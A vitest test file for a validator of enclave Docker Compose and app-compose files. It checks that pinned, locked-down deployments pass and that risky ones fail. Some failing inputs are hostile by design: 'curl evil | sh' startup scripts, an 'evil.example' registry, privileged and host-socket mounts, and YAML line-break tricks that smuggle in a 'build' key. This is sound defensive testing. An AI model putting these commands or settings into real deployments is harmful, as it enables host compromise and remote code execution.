import { describe, expect, test } from 'vitest'
import {
  behind,
  judgeCompose,
  pinnedImage,
  service,
} from '../../../support/enclave/judge-compose.ts'

/** In the manner of the enclaves' own deployment, with its commit and its hosts written out. */
const gatewayFile = `
# the gateway of an aggregator
services:
  gateway:
    image: docker.io/example/launcher@sha256:${'cd'.repeat(32)}
    command: ["/etc/launcher/gateway.conf"]
    ports:
      - "8086:8086"
    configs:
      - source: pin
        target: /etc/launcher/gateway.conf
      - upstreams
    environment:
      CONFIG_PATH: /etc/gateway/gateway.config.json
      CACHE_MB: 64
      UPSTREAM_KEY: \${UPSTREAM_KEY}
    volumes:
      - state:/var/lib/gateway
      - /var/run/dstack.sock:/var/run/dstack.sock
    restart: unless-stopped
    logging: {driver: json-file, options: {max-size: 10m}}
    healthcheck:
      test: ["CMD-SHELL", "test -n \\"$$HOME\\""]
    deploy:
      resources:
        reservations:
          devices: [{driver: nvidia, count: all, capabilities: [gpu]}]
configs:
  pin:
    content: |
      REPO_URL=https://git.example.com/gateway.git
      COMMIT_SHA=${'0f'.repeat(20)}
  upstreams:
    content: |
      [{"name": "host", "base_url": "https://inference.example.com"}]
volumes:
  state:
`

test('a gateway that fixes its code and its hosts, and takes a key from its environment, passes', () => {
  const judged = judgeCompose({
    file: gatewayFile,
    app: { allowed_envs: ['UPSTREAM_KEY'] },
    allowedEnvs: ['UPSTREAM_KEY'],
  })
  expect(judged.checks).toMatchObject([{ status: 'pass' }, { status: 'pass' }])
})

test.each<[string, Readonly<Record<string, unknown>>]>([
  [
    'the members that deployment tools write',
    { features: ['kms', 'tproxy-net'], docker_config: {} },
  ],
  [
    'a manifest of version 3 with requirements',
    {
      manifest_version: '3',
      requirements: { os_version: '>=0.6.0', gpu_policy: { attest_gpu: true } },
    },
  ],
  ['scripts that are not there', { init_script: null, pre_launch_script: '', bash_script: null }],
  [
    'other settings of no consequence',
    {
      key_provider: 'kms',
      key_provider_id: '',
      no_instance_id: true,
      secure_time: true,
      public_tcbinfo: true,
      storage_fs: 'zfs',
      swap_size: 0,
      event_log_version: 2,
      tproxy_enabled: true,
      port_policy: { restrict_mode: true, ports: [{ port: 443 }] },
    },
  ],
])('an app-compose file with %s passes', (_what, app) => {
  expect(judgeCompose({ app }).content).toBe('pass')
})

test.each<[string, Readonly<Record<string, unknown>>]>([
  ['runs its script, not its containers', { runner: 'bash', bash_script: 'curl evil | sh' }],
  ['is run by another runner', { runner: 'nerdctl-compose', snapshotter: 'stargz' }],
  ['names no runner', { runner: undefined }],
  ['has a script for a runner that it does not use', { bash_script: 'true' }],
  ['runs scripts when it starts', { init_script: 'curl evil | sh' }],
  ['runs a list of scripts when it starts', { init_script: ['true'] }],
  ['runs a script before its containers', { pre_launch_script: 'true' }],
  ['has a script of another type', { pre_launch_script: ['true'] }],
  ['takes its keys from nowhere', { kms_enabled: false }],
  ['does not say whether logs are public', { public_logs: undefined }],
  ['shows system information', { public_sysinfo: true }],
  ['takes its keys from another provider', { key_provider: 'local' }],
  ['takes its keys from the machine', { local_key_provider_enabled: true }],
  [
    'mounts volumes over its software',
    {
      verity_volumes: [{ source: 'x.img', verity_root: '00'.repeat(32), target: '/bin' }],
    },
  ],
  ['pulls from another registry', { docker_config: { registry: 'evil.example' } }],
  [
    'lets a graphics card be debugged',
    {
      manifest_version: '3',
      requirements: { gpu_policy: { allow_debug: true } },
    },
  ],
  ['has a requirement that is not known', { requirements: { anything: true } }],
  ['has a manifest of a version that is not known', { manifest_version: 4 }],
  ['has a feature that is not known', { features: ['shell'] }],
  ['has a member that is not known', { authorized_keys: 'ssh-rsa x' }],
  ['has a known member in other letters', { Pre_launch_script: 'true' }],
  ['says what it takes in no list', { allowed_envs: 'A' }],
])('an app-compose file that %s fails', (_what, app) => {
  expect(judgeCompose({ app }).content).toBe('fail')
})

describe('of a docker compose file', () => {
  test.each<[string, string]>([
    ['includes another one', behind('include:', '  - oci://docker.io/evil/app')],
    ['includes another one by its path', behind('include: [other.yaml]')],
    ['extends another service', service('extends: {file: x.yaml, service: y}')],
    ['builds', service('build: .')],
    ['builds when it pulls', service('pull_policy: build')],
    ['reads its environment from a file', service('env_file: x')],
    ['runs in the name of another provider', service('provider: {type: x}')],
    ['watches for other sources', service('develop: {watch: []}')],
    ['runs hooks', service('post_start: [{command: x}]')],
    ['lends out the machine', service('privileged: true')],
    ['lends out the machine in other words', service('privileged: "yes"')],
    ['shares the processes of the machine', service('pid: host')],
    ['stands in the network of the machine', service('network_mode: host')],
    ['names hosts of its own', service('extra_hosts: ["app:192.0.2.1"]')],
    ['asks a name server of its own', service('dns: 192.0.2.1')],
    ['starts only by profile', service('profiles: [x]')],
    ['is not started at all', service('scale: 0')],
    ['is started no times', service('deploy: {replicas: 0}')],
    [
      'sends its logs away',
      service('logging: {driver: syslog, options: {syslog-address: "tcp://x"}}'),
    ],
    ['adds a capability', service('cap_add: [SYS_ADMIN]')],
    ['has a member that is not known', service('anything: true')],
    ['has a member of its own', service('x-anything: true')],
    ['has a member at the top that is not known', behind('x-anything: true')],
    ['mounts a folder of the machine', service('volumes: ["/:/host"]')],
    ['mounts a folder beside it', service('volumes: ["./x:/x"]')],
    [
      'mounts the socket that starts containers',
      service('volumes: ["/var/run/docker.sock:/var/run/docker.sock"]'),
    ],
    [
      'mounts it in the long form',
      service('volumes: [{type: bind, source: /var/run/docker.sock, target: /x}]'),
    ],
    ['mounts what is not declared', service('volumes: ["data:/data"]')],
    [
      'mounts of a kind that is not known',
      service('volumes: [{type: image, source: x, target: /x}]'),
    ],
    [
      'has a volume that is a folder of the machine',
      behind('volumes:', '  data: {driver: local, driver_opts: {type: none, o: bind, device: /}}'),
    ],
    ['has a volume from elsewhere', behind('volumes: {data: {external: true}}')],
    ['has a configuration from a file', behind('configs: {a: {file: /dstack/x}}')],
    ['has a configuration from its environment', behind('configs: {a: {environment: A}}')],
    ['has a configuration from elsewhere', behind('configs: {a: {external: true}}')],
    ['uses a configuration that is not declared', service('configs: [a]')],
    ['has secrets', behind('secrets: {a: {environment: A}}')],
    ['has a network from elsewhere', behind('networks: {a: {external: true}}')],
    ['has a network with a driver of its own', behind('networks: {a: {driver: macvlan}}')],
    ['has a service that is nothing', `${service()}  other:\n`],
    ['has a service without an image', `${service()}  other: {command: x}\n`],
    ['names an image by its tag', 'services: {app: {image: "app:1"}}\n'],
    ['names an image by nothing', 'services: {app: {image: app}}\n'],
    [
      'names an image by a digest of another kind',
      `services: {app: {image: "app@sha512:${'0'.repeat(128)}"}}\n`,
    ],
    ['names an image by part of a digest', 'services: {app: {image: "app@sha256:abcd"}}\n'],
    ['names an image by a variable', `services: {app: {image: "$A@sha256:${'0'.repeat(64)}"}}\n`],
  ])('one that %s fails', (_what, file) => {
    expect(judgeCompose({ file }).content).toBe('fail')
  })

  test.each<[string, string]>([
    ['escapes in a name', behind('"\\x69nclude": [x]')],
    ['escapes in a text', service('command: "\\x61"')],
    ['an anchor', service('command: &a x')],
    ['an alias', service('command: &a x', 'user: *a')],
    ['a merge key', service('<<: {build: .}')],
    ['a merge key inside', service('labels: {<<: {a: b}}')],
    ['a tag', service('command: !!str x')],
    ['a tag without a name', service('command: ! x')],
    ['a member twice', service(`image: ${pinnedImage}`)],
    ['a second document', `${service()}---\n${service('build: .')}`],
    ['an end of document', `${service()}...\n`],
    ['a directive', `%YAML 1.1\n---\n${service()}`],
    ['a member of several lines', service('? command', ': x')],
    ['a member that is a list', service('? [command]', ': x')],
    // Readers of YAML 1.1, as dstack uses, end the line here; the comment would go on as a member.
    ['a line that other readers end earlier', service('user: x # \u2028    build: .')],
    ['a line that ends with U+0085', service('user: x # \u0085    build: .')],
    ['a tab', service('command:\tx')],
    ['a carriage return', service('user: x # \r    build: .')],
    ['a byte order mark', `\ufeff${service()}`],
    ['a control character', service('user: "a\u0000"')],
    ['very much text', service(`command: "${'x'.repeat(300_000)}"`)],
    ['very deep nesting', service(`command: ${'['.repeat(50_000)}`)],
  ])('one with %s fails', (_what, file) => {
    expect(judgeCompose({ file }).content).toBe('fail')
  })

  test.each<[string, string]>([
    ['in its configuration', 'configs: {a: {content: "{\\"admin_token\\": \\"x\\"}"}}'],
    ['written with an escape', `configs: {a: {content: '{"\\u0061dmin_token": "x"}'}}`],
    ['as an option', '# --admin-token x'],
  ])('one with an admin token %s fails', (_where, line) => {
    expect(judgeCompose({ file: behind(line) }).content).toBe('fail')
  })
})
